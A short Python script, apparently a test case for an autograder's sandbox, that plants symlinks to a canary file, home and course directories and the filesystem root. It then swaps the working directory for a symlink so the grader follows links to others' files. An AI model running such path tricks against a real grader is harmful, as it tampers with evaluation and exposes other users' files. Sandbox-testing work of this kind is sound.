# puts links to others' files where the grader will look, or clean up
import os
here = os.getcwd()
for number, victim in enumerate((CANARY, HOME, COURSE, "/")):
    os.symlink(victim, os.path.join(here, "link%d" % number))
os.makedirs("a/b")
os.rename("a", "c")
os.symlink(os.path.dirname(CANARY), "a")
try:
    os.rename(here, here + "-moved")
    os.symlink(os.path.dirname(CANARY), here)
except OSError:
    pass
